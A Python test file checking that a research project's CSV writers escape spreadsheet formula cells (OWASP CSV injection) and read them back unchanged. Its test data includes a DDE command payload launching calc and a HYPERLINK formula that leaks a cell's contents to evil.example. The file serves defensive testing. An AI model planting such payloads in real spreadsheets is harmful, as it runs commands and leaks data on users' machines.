"""Spreadsheet-formula cells (OWASP CSV injection): quoted with ``'`` when written, unquoted when read back.

Expected texts are written out by hand; round trips go through the real writers (manifest, neural CSV,
results-style tables) and readers.
"""
from __future__ import annotations

import io

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from rsa_bridge.neural.exporters import export_rates
from rsa_bridge.neural.importers import from_array, read_csv
from stimuli import load_stimulus_set, write_manifest
from stimuli.csv_cells import (
    FORMULA_PREFIXES,
    escape_cell,
    escape_frame,
    frame_to_csv,
    read_own_csv,
    unescape_cell,
)
from stimuli.stimulus_set import StimulusSet

HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)",
           "\t=1", "\r=1"]


@pytest.mark.parametrize("text, written", [
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ('=HYPERLINK("x")', '\'=HYPERLINK("x")'),
    ("+1", "'+1"),
    ("-1", "'-1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("'=x", "''=x"),  # already quoted text is quoted once more, so reading gives it back
    ("''-x", "'''-x"),
    ("cat_01", "cat_01"),
    ("a=b", "a=b"),
    ("'plain", "'plain"),
    ("", ""),
    (" =x", " =x"),
])
def test_each_dangerous_prefix_is_escaped(text, written):
    assert escape_cell(text) == written
    assert unescape_cell(written) == text


def test_every_listed_prefix_is_covered():
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}
    for prefix in FORMULA_PREFIXES:
        assert escape_cell(prefix + "x") == "'" + prefix + "x"


def test_numbers_stay_numbers():
    assert escape_cell(-0.5) == -0.5 and escape_cell(-3) == -3 and escape_cell(None) is None
    frame = pd.DataFrame({"model": ["=evil", "alexnet"], "similarity": [-0.5, 0.25], "n": [-1, 2]})
    text = frame_to_csv(frame, index=False)
    assert text == "model,similarity,n\n'=evil,-0.5,-1\nalexnet,0.25,2\n"
    back = read_own_csv(io.StringIO(text))
    assert back["model"].tolist() == ["=evil", "alexnet"]
    assert back["similarity"].tolist() == [-0.5, 0.25] and back["n"].tolist() == [-1, 2]


def test_header_and_index_labels_are_escaped():
    frame = pd.DataFrame({"=col": ["x"], "-2": [1.0]}, index=pd.Index(["@row"], name="+idx"))
    assert frame_to_csv(frame) == "'+idx,'=col,'-2\n'@row,x,1.0\n"
    assert list(escape_frame(frame).columns) == ["'=col", "'-2"]
    assert list(frame.columns) == ["=col", "-2"]  # the caller's frame is not changed


def _images(folder, names):
    folder.mkdir(parents=True, exist_ok=True)
    for name in names:
        Image.fromarray(np.full((4, 4, 3), 100, np.uint8)).save(folder / name)


def test_manifest_round_trip(tmp_path):
    ids = [*HOSTILE, "'=already", "plain"]
    files = [f"s{k}.png" for k in range(len(ids) - 1)] + ["-dash.png"]  # a file name that starts with '-'
    _images(tmp_path, files)
    labels = ["=label", "-7", "ok", "@x", "+", "a", "b", "c", "d"]
    manifest = pd.DataFrame({"stimulus_id": ids, "filename": files, "category": labels})
    path = write_manifest(StimulusSet(tmp_path, manifest))
    cells = pd.read_csv(path, dtype=str, keep_default_na=False)  # as a spreadsheet sees the file
    assert cells.loc[0].tolist() == ["'=cmd|' /C calc'!A0", "s0.png", "'=label"]
    assert cells.loc[7].tolist() == ["''=already", "s7.png", "c"] and cells.loc[8, "filename"] == "'-dash.png"
    assert not any(v[:1] in FORMULA_PREFIXES for column in cells for v in cells[column])
    back = load_stimulus_set(tmp_path)
    assert back.stimulus_ids == ids
    assert back.manifest["filename"].tolist() == files
    assert back.manifest["category"].astype(str).tolist() == labels
    assert back.paths[-1].name == "-dash.png" and back.paths[-1].is_file()


def test_exported_neural_csv_round_trip(tmp_path):
    rng = np.random.default_rng(0)
    array = rng.normal(size=(3, 4, 2))  # negative rates included
    stim = ["=cmd|' /C calc'!A0", "-1", "@img", "img"]
    neur = ["=HYPERLINK(\"x\")", "+n2", "n3"]
    rates = from_array(array, stimulus_ids=stim, neuroid_ids=neur, region="-V4", animal="@m", units="=spikes")
    export_rates(rates, tmp_path / "r.csv", "csv")
    table = pd.read_csv(tmp_path / "r.csv", dtype=str, keep_default_na=False)  # as a spreadsheet sees it
    assert not any(v[:1] in FORMULA_PREFIXES for c in ("stimulus_id", "neuroid_id", "region", "animal", "units")
                   for v in table[c])
    numeric = pd.read_csv(tmp_path / "r.csv")["rate"]
    assert numeric.dtype == np.float64 and (numeric < 0).any()  # negative rates written as numbers
    back = read_csv(tmp_path / "r.csv")
    np.testing.assert_array_equal(back.values, rates.values)
    assert [str(s) for s in back["stimulus_id"].values] == [str(s) for s in rates["stimulus_id"].values]
    assert sorted(str(n) for n in back["neuroid_id"].values) == sorted(neur)
    assert set(str(r) for r in back["region"].values) == {"-V4"} and back.attrs["units"] == "=spikes"


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_cell_round_trip_property(text):
    written = escape_cell(text)
    assert unescape_cell(written) == text
    assert written[:1] not in FORMULA_PREFIXES  # never a formula in a spreadsheet


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
                        min_size=1), min_size=1, max_size=5))
def test_csv_file_round_trip_property(values):
    frame = pd.DataFrame({"stimulus_id": values, "x": np.arange(len(values), dtype=float) - 2.5})
    text = frame_to_csv(frame, index=False)
    back = read_own_csv(io.StringIO(text), dtype={"stimulus_id": str}, keep_default_na=False)
    assert back["stimulus_id"].tolist() == values
    assert back["x"].tolist() == frame["x"].tolist()
